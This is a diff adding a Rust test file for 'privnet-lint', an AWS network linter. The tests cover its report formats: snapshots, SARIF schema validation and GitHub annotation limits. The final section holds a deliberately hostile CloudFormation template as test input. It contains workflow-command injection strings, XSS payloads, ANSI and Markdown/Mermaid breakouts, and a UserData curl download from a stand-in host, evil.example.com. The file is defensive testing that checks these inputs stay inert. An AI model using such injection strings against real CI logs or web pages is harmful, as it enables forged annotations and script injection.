@@ -1,0 +1,429 @@
+//! The machine formats (SPEC §3, §4): concise, json, github, sarif and
+//! markdown, as snapshots on the seed and on broken fixtures, plus the properties that
+//! snapshots cannot show: the SARIF log validates against the official
+//! schema, GitHub's annotation limit, and hostile template text that must
+//! not inject a workflow command or break any format.
+
+use privnet_lint::finding::PAGES;
+use privnet_lint::report::{Report, concise, github, human, json, markdown, sarif};
+use privnet_lint::{Options, lint_text};
+use serde_json::Value;
+
+fn lint(path: &str, region: &str) -> Report {
+    let text = std::fs::read_to_string(path).expect("fixture");
+    let opts = Options { regions: vec![region.to_string()], ..Options::default() };
+    Report { results: lint_text(path, &text, &opts) }
+}
+
+/// Every `fixtures/rules/*.fail.yaml`, each linted on its own, in one report.
+fn every_failing_fixture() -> Report {
+    let mut paths: Vec<String> = std::fs::read_dir("fixtures/rules")
+        .expect("fixtures/rules")
+        .filter_map(|e| e.ok().map(|e| e.path().display().to_string()))
+        .filter(|p| p.ends_with(".fail.yaml"))
+        .collect();
+    paths.sort();
+    let mut report = Report::default();
+    for p in paths {
+        report.results.extend(lint(&p, "us-east-1").results);
+    }
+    report
+}
+
+const CASES: &[(&str, &str, &str)] = &[
+    ("seed_ap_northeast_1", "fixtures/seed-stack.yaml", "ap-northeast-1"),
+    ("seed_us_east_1", "fixtures/seed-stack.yaml", "us-east-1"),
+    ("pn101_no_route_to_s3", "fixtures/rules/PN101-no-route-to-s3.fail.yaml", "us-east-1"),
+    ("pn203_endpoint_sg_blocks_ingress", "fixtures/rules/PN203-endpoint-sg-blocks-ingress.fail.yaml", "us-east-1"),
+    ("pn302_nacl_blocks_return", "fixtures/rules/PN302-nacl-blocks-return.fail.yaml", "us-east-1"),
+    ("pn402_private_dns_disabled", "fixtures/rules/PN402-endpoint-private-dns-disabled.fail.yaml", "us-east-1"),
+];
+
+/// The SARIF log without `tool.driver.rules`, which is the same in every
+/// log and checked on its own by `sarif_rules_come_from_the_pages`.
+fn sarif_without_rules(report: &Report) -> Value {
+    let mut log: Value = serde_json::from_str(&sarif::render(report)).expect("SARIF is JSON");
+    let rules = &mut log["runs"][0]["tool"]["driver"]["rules"];
+    let n = rules.as_array().map(Vec::len).unwrap_or(0);
+    *rules = Value::String(format!("<{n} rules>"));
+    log["runs"][0]["tool"]["driver"]["version"] = Value::String("<version>".into());
+    log["runs"][0]["tool"]["driver"]["semanticVersion"] = Value::String("<version>".into());
+    log
+}
+
+#[test]
+fn concise_snapshots() {
+    for (name, path, region) in CASES {
+        insta::assert_snapshot!(format!("concise_{name}"), concise::render(&lint(path, region)));
+    }
+    insta::assert_snapshot!("concise_every_failing_fixture", concise::render(&every_failing_fixture()));
+}
+
+#[test]
+fn github_snapshots() {
+    for (name, path, region) in CASES {
+        insta::assert_snapshot!(format!("github_{name}"), github::render(&lint(path, region)));
+    }
+    insta::assert_snapshot!("github_every_failing_fixture", github::render(&every_failing_fixture()));
+}
+
+#[test]
+fn sarif_snapshots() {
+    for (name, path, region) in CASES {
+        insta::assert_json_snapshot!(format!("sarif_{name}"), sarif_without_rules(&lint(path, region)));
+    }
+}
+
+#[test]
+fn json_snapshots() {
+    for (name, path, region) in CASES {
+        let text = json::render(&lint(path, region));
+        let doc: Value = serde_json::from_str(&text).expect("JSON");
+        assert_eq!(doc["schema"], "privnet-lint/v1");
+        // the text itself: field order is part of what people read
+        insta::assert_snapshot!(format!("json_{name}"), text);
+    }
+}
+
+#[test]
+fn markdown_snapshots() {
+    for (name, path, region) in CASES {
+        insta::assert_snapshot!(format!("markdown_{name}"), markdown::render(&lint(path, region)));
+    }
+}
+
+#[test]
+fn several_regions_report_a_finding_once_with_its_regions() {
+    let text = std::fs::read_to_string("fixtures/rules/PN101-no-route-to-s3.fail.yaml").unwrap();
+    let opts = Options { regions: vec!["us-east-1".into(), "eu-west-1".into()], ..Options::default() };
+    let report = Report { results: lint_text("t.yaml", &text, &opts) };
+    insta::assert_snapshot!("markdown_two_regions", markdown::render(&report));
+    let gh = github::render(&report);
+    assert!(gh.lines().all(|l| l.starts_with("::")), "{gh}");
+}
+
+// --- SARIF ---------------------------------------------------------------
+
+fn sarif_validator() -> jsonschema::Validator {
+    // the official schema (OASIS sarif-spec), next to the checkout like the corpus
+    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/schemas/sarif-schema-2.1.0.json");
+    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
+    let schema: Value = serde_json::from_str(&text).expect("schema is JSON");
+    jsonschema::draft4::options().should_validate_formats(true).build(&schema).expect("schema compiles")
+}
+
+fn assert_valid(validator: &jsonschema::Validator, log: &Value, what: &str) {
+    let errors: Vec<String> = validator.iter_errors(log).map(|e| format!("{} at {}", e, e.instance_path())).collect();
+    assert!(errors.is_empty(), "{what}: SARIF invalid:\n{}", errors.join("\n"));
+}
+
+/// Every string in the log, with its JSON path.
+fn strings<'a>(v: &'a Value, path: String, out: &mut Vec<(String, &'a str)>) {
+    match v {
+        Value::String(s) => out.push((path, s)),
+        Value::Array(a) => a.iter().enumerate().for_each(|(i, x)| strings(x, format!("{path}/{i}"), out)),
+        Value::Object(o) => o.iter().for_each(|(k, x)| strings(x, format!("{path}/{k}"), out)),
+        _ => {}
+    }
+}
+
+#[test]
+fn sarif_validates_against_the_official_schema() {
+    let validator = sarif_validator();
+    let mut reports: Vec<(String, Report)> =
+        CASES.iter().map(|(name, path, region)| (name.to_string(), lint(path, region))).collect();
+    reports.push(("every failing fixture".into(), every_failing_fixture()));
+    reports.push(("hostile".into(), hostile()));
+    reports.push(("empty".into(), Report::default()));
+    for (name, report) in &reports {
+        let log: Value = serde_json::from_str(&sarif::render(report)).expect("JSON");
+        assert_valid(&validator, &log, name);
+        let mut all = Vec::new();
+        strings(&log, String::new(), &mut all);
+        for (path, s) in all {
+            assert!(!s.is_empty(), "{name}: empty string at {path}");
+            assert!(!path.ends_with("helpUri"), "{name}: helpUri at {path}");
+        }
+        let results = log["runs"][0]["results"].as_array().unwrap();
+        let findings: usize = report.results.iter().map(|r| r.findings.len()).sum();
+        assert!(results.len() <= findings && (findings == 0) == results.is_empty(), "{name}");
+        for r in results {
+            let uri = r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str().unwrap();
+            assert!(!uri.starts_with('/') && !uri.starts_with("./"), "{name}: {uri} is not repo-relative");
+            let region = &r["locations"][0]["physicalLocation"]["region"];
+            for k in ["startLine", "startColumn", "endLine", "endColumn"] {
+                assert!(region[k].as_u64().is_some_and(|n| n >= 1), "{name}: region.{k} in {r}");
+            }
+        }
+    }
+    // the validator is not vacuous
+    let mut broken: Value = serde_json::from_str(&sarif::render(&reports[2].1)).unwrap();
+    broken["runs"][0]["results"][0]["level"] = Value::String("fatal".into());
+    assert!(validator.iter_errors(&broken).next().is_some(), "a bad level must fail validation");
+}
+
+#[test]
+fn sarif_rules_come_from_the_pages() {
+    let log: Value = serde_json::from_str(&sarif::render(&Report::default())).unwrap();
+    let driver = &log["runs"][0]["tool"]["driver"];
+    assert_eq!(driver["name"], "privnet-lint");
+    assert_eq!(log["runs"][0]["columnKind"], "unicodeCodePoints");
+    let rules = driver["rules"].as_array().unwrap();
+    assert_eq!(rules.len(), PAGES.len());
+    for (rule, page) in rules.iter().zip(PAGES) {
+        assert_eq!(rule["id"], page.id);
+        assert_eq!(rule["name"], page.name);
+        assert_eq!(rule["shortDescription"]["text"], page.summary);
+        assert_eq!(rule["defaultConfiguration"]["level"], page.severity.as_str());
+        let body = privnet_lint::cli::strip_front_matter(page.markdown).trim_end();
+        assert_eq!(rule["help"]["markdown"], body, "{}", page.id);
+        assert_eq!(rule["help"]["text"], body, "{}", page.id);
+        let full = rule["fullDescription"]["text"].as_str().unwrap();
+        // the first paragraph of "What it detects", reflowed onto one line
+        let section = body.split("## What it detects").nth(1).unwrap_or_default();
+        let first = section.trim_start().split("\n\n").next().unwrap_or_default();
+        assert_eq!(full, first.split_whitespace().collect::<Vec<_>>().join(" "), "{}", page.id);
+    }
+    insta::assert_snapshot!(
+        "sarif_rule_pn402",
+        serde_json::to_string_pretty(&rules.iter().find(|r| r["id"] == "PN402").unwrap()).unwrap()
+    );
+}
+
+#[test]
+fn sarif_blocked_paths_have_their_other_hops_as_related_locations() {
+    let log: Value = serde_json::from_str(&sarif::render(&lint(CASES[2].1, "us-east-1"))).unwrap();
+    let result = &log["runs"][0]["results"][0];
+    assert_eq!(result["ruleId"], "PN101");
+    let related = result["relatedLocations"].as_array().expect("related locations");
+    let texts: Vec<&str> = related.iter().map(|r| r["message"]["text"].as_str().unwrap()).collect();
+    assert!(texts.iter().any(|t| t.contains("security-group-egress")), "{texts:?}");
+    assert!(texts.iter().any(|t| t.contains("nacl-outbound")), "{texts:?}");
+    let main = &result["locations"][0]["physicalLocation"]["region"];
+    for r in related {
+        assert_ne!(&r["physicalLocation"]["region"], main, "the finding's own place is not related to itself");
+    }
+}
+
+// --- GitHub --------------------------------------------------------------
+
+/// One workflow command the way the Actions runner reads a log line
+/// (actions/runner `ActionCommand.TryParseV2`): trimmed, `::`, the command
+/// and properties up to the next `::`, properties split on `,` then `=`,
+/// values unescaped.
+#[derive(Debug)]
+struct Command {
+    name: String,
+    properties: Vec<(String, String)>,
+    data: String,
+}
+
+fn unescape(s: &str, property: bool) -> String {
+    let mut s = s.replace("%0D", "\r").replace("%0A", "\n");
+    if property {
+        s = s.replace("%3A", ":").replace("%2C", ",");
+    }
+    s.replace("%25", "%")
+}
+
+fn parse_command(line: &str) -> Option<Command> {
+    let line = line.trim_start();
+    let rest = line.strip_prefix("::")?;
+    let end = rest.find("::")?;
+    let (head, data) = (&rest[..end], &rest[end + 2..]);
+    let (name, props) = head.split_once(' ').unwrap_or((head, ""));
+    let properties = props
+        .split(',')
+        .filter(|p| !p.is_empty())
+        .filter_map(|p| p.split_once('=').map(|(k, v)| (k.to_string(), unescape(v, true))))
+        .collect();
+    Some(Command { name: name.to_string(), properties, data: unescape(data, false) })
+}
+
+fn commands(text: &str) -> Vec<Command> {
+    text.lines().filter_map(parse_command).collect()
+}
+
+fn prop<'a>(c: &'a Command, key: &str) -> Option<&'a str> {
+    c.properties.iter().find(|(k, _)| k == key).map(|(_, v)| v.as_str())
+}
+
+#[test]
+fn github_annotations_point_at_the_node_to_edit() {
+    let report = lint(CASES[2].1, "us-east-1");
+    let out = github::render(&report);
+    let cmds = commands(&out);
+    assert_eq!(cmds.len(), 1, "{out}");
+    let c = &cmds[0];
+    assert_eq!(c.name, "error");
+    assert_eq!(prop(c, "file"), Some("fixtures/rules/PN101-no-route-to-s3.fail.yaml"));
+    assert_eq!(prop(c, "line"), Some("18"));
+    assert_eq!(prop(c, "col"), Some("3"));
+    assert_eq!(prop(c, "title"), Some("PN101 no-route-to-s3"));
+    assert!(c.data.starts_with("fixtures/rules/PN101-no-route-to-s3.fail.yaml:18:3: dnf on Instance"), "{}", c.data);
+    assert!(c.data.contains("\n\nFix: Add an S3 gateway endpoint"), "the fix travels, unescaped by the runner");
+}
+
+#[test]
+fn github_columns_only_on_one_line() {
+    let report = every_failing_fixture();
+    for c in commands(&github::render(&report)) {
+        if prop(&c, "file").is_none() {
+            continue;
+        }
+        let (line, end) = (prop(&c, "line"), prop(&c, "endLine"));
+        if line != end {
+            assert!(prop(&c, "col").is_none() && prop(&c, "endColumn").is_none(), "{c:?}");
+        }
+        if let (Some(col), Some(end_col)) = (prop(&c, "col"), prop(&c, "endColumn")) {
+            assert!(end_col.parse::<u32>().unwrap() >= col.parse::<u32>().unwrap(), "{c:?}");
+        }
+    }
+}
+
+#[test]
+fn github_cuts_at_ten_per_severity_with_a_notice() {
+    let report = every_failing_fixture();
+    let total_errors: usize = report.results.iter().map(|r| r.count(privnet_lint::finding::Severity::Error)).sum();
+    assert!(total_errors > github::LIMIT, "the fixtures give more than ten errors ({total_errors})");
+    let out = github::render(&report);
+    let cmds = commands(&out);
+    for name in ["error", "warning", "notice"] {
+        let n = cmds.iter().filter(|c| c.name == name).count();
+        assert!(n <= github::LIMIT, "{n} {name} annotations");
+    }
+    assert_eq!(cmds.iter().filter(|c| c.name == "error").count(), github::LIMIT);
+    let notice = cmds.iter().find(|c| prop(c, "title") == Some("privnet-lint: annotations cut")).expect("a notice");
+    let cut_lines: Vec<&str> = out.lines().filter(|l| l.starts_with("privnet-lint: ")).collect();
+    let cut_errors = cut_lines.iter().filter(|l| l.starts_with("privnet-lint: error ")).count();
+    assert_eq!(cut_errors, total_errors - github::LIMIT);
+    assert!(notice.data.contains(&format!("{cut_errors} more errors")), "{}", notice.data);
+    // every finding is either annotated or on a log line
+    let items = github::items(&report).len();
+    assert_eq!(cmds.len() - 1 + cut_lines.len(), items);
+}
+
+// --- hostile template text ------------------------------------------------
+
+/// Logical IDs, a description and a UserData URL made to break out of every
+/// format: workflow commands, escapes, CR/LF, ANSI, HTML, Markdown, Mermaid.
+const HOSTILE: &str = r#"AWSTemplateFormatVersion: "2010-09-09"
+Description: "::error file=x::injected <script>alert(1)</script>"
+Resources:
+  "Vpc::error::x%0A,y\n::warning::z":
+    Type: AWS::EC2::VPC
+    Properties:
+      CidrBlock: 10.0.0.0/16
+  "Subnet\u001b[31m<img src=x onerror=alert(1)>@octocat #1 |`](javascript:x)":
+    Type: AWS::EC2::Subnet
+    Properties:
+      VpcId: !Ref "Vpc::error::x%0A,y\n::warning::z"
+      CidrBlock: 10.0.1.0/24
+  "Instance\"]:::block\n%%{init: {}}%%\r\n::error::pwned\u2028::notice::x":
+    Type: AWS::EC2::Instance
+    Properties:
+      ImageId: ami-12345678
+      SubnetId: !Ref "Subnet\u001b[31m<img src=x onerror=alert(1)>@octocat #1 |`](javascript:x)"
+      UserData:
+        Fn::Base64: |
+          #!/bin/bash
+          curl -o /tmp/x "https://evil.example.com/::error file=a::b%0A<b>x</b>"
+"#;
+
+fn hostile() -> Report {
+    let opts = Options::default();
+    Report { results: lint_text("hostile,dir:x/t.yaml", HOSTILE, &opts) }
+}
+
+#[test]
+fn hostile_text_cannot_inject_a_workflow_command() {
+    let report = hostile();
+    assert!(report.results[0].findings.len() >= 3, "the hostile template gives findings");
+    let out = github::render(&report);
+    let cmds = commands(&out);
+    // one command per line, each one of ours: nothing else starts with `::`
+    for line in out.lines() {
+        let c = parse_command(line).expect("every line is a command");
+        assert!(["error", "warning", "notice"].contains(&c.name.as_str()), "{line}");
+        assert_eq!(prop(&c, "file"), Some("hostile,dir:x/t.yaml"), "{line}");
+        let title = prop(&c, "title").unwrap();
+        assert!(title.starts_with("PN") && !title.contains("::"), "{title}");
+        assert!(c.data.starts_with("hostile,dir:x/t.yaml:"), "{}", c.data);
+        assert!(!c.data.contains('\u{1b}'), "no ANSI escape reaches the log");
+        assert!(!line.contains('\r') && !line.contains('\u{2028}'));
+    }
+    assert_eq!(cmds.len(), out.lines().count());
+    assert_eq!(cmds.len(), github::items(&report).len());
+    // the runner gets the logical ID back intact (minus what could not be shown)
+    assert!(cmds.iter().any(|c| c.data.contains("Instance\"]:::block\n%%{init: {}}%%\r\n::error::pwned")));
+}
+
+#[test]
+fn hostile_text_keeps_concise_on_one_line_per_finding() {
+    let report = hostile();
+    let out = concise::render(&report);
+    assert_eq!(out.lines().count(), report.results[0].findings.len(), "{out}");
+    assert!(!out.contains('\u{1b}') && !out.contains('\r'));
+    assert!(out.lines().all(|l| l.starts_with("hostile,dir:x/t.yaml:")));
+}
+
+#[test]
+fn hostile_text_is_inert_in_markdown() {
+    let out = markdown::render(&hostile());
+    // no line reads as a workflow command when the report is printed to a log
+    assert!(out.lines().all(|l| !l.trim_start().starts_with("::")), "{out}");
+    assert!(!out.contains('\u{1b}'));
+    let mut in_mermaid = false;
+    let mut fence = String::new();
+    for line in out.lines() {
+        if fence.is_empty() {
+            if line.starts_with("```") {
+                fence = line.chars().take_while(|c| *c == '`').collect();
+                in_mermaid = line.ends_with("mermaid");
+                continue;
+            }
+            // prose: no HTML from the template, no mention, no issue link
+            // (code blocks show text as is, and GitHub links nothing in them)
+            assert!(!line.contains('<') && !line.contains("@octocat") && !line.contains("#1 "), "{line}");
+            if line.starts_with('|') {
+                // a table row keeps its six columns: template `|` is escaped
+                let cells = line.replace("\\|", "").matches('|').count();
+                assert_eq!(cells, 7, "{line}");
+            }
+        } else if line == fence {
+            fence.clear();
+            in_mermaid = false;
+        } else if in_mermaid {
+            assert!(!line.replace("<br/>", "").contains('<') && !line.contains("@octocat"), "{line}");
+            // every Mermaid line is ours: a quoted label holds no quote
+            let t = line.trim_start();
+            let ours = ["flowchart ", "subgraph p", "p", "end", "classDef ", "class "];
+            assert!(ours.iter().any(|p| t.starts_with(p)), "{line}");
+            assert!(line.matches('"').count() % 2 == 0 && !t.contains("\"\"]"), "{line}");
+            if let Some(label) = t.split_once("[\"").map(|(_, l)| l) {
+                let inner = label.strip_suffix("\"]").expect("label ends the line");
+                assert!(!inner.contains('"') && !inner.contains('`') && !inner.contains(":::"), "{line}");
+            }
+        } else {
+            assert!(!line.starts_with("```"), "a fence closed early: {line}");
+        }
+    }
+    assert!(fence.is_empty(), "every fence is closed");
+}
+
+#[test]
+fn hostile_text_is_plain_data_in_sarif() {
+    let log: Value = serde_json::from_str(&sarif::render(&hostile())).expect("JSON");
+    assert_valid(&sarif_validator(), &log, "hostile");
+    let uri = log["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str();
+    assert_eq!(uri, Some("hostile%2Cdir%3Ax/t.yaml"));
+}
+
+#[test]
+fn hostile_text_cannot_forge_commands_in_human_output() {
+    // the default format is what most CI logs show
+    let out = human::render(&hostile(), human::Style { color: false, quiet: false });
+    assert!(!out.is_empty());
+    assert!(out.lines().all(|l| !l.trim_start().starts_with("::")), "{out}");
+    assert!(!out.contains('\u{1b}') && !out.contains('\r'), "{out}");
+}
